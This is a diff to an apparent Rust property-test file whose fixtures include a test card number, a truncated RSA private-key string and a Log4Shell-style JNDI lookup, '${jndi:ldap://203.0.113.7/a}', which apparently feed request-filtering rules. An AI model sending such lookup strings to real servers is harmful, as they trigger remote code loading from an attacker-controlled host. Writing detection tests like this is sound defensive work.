@@ -15,7 +15,7 @@ use proptest::collection::vec;
 use proptest::prelude::*;
 
 const CARD: &str = "4111111111111111";
-const KEY: &str = "-----BEGIN RSA PRIVATE KEY-----";
+const KEY: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHC";
 const LOOKUP: &str = "${jndi:ldap://203.0.113.7/a}";
 /// A request target as sent, and as the rules see it.
 const TARGETS: [(&str, &str); 3] = [
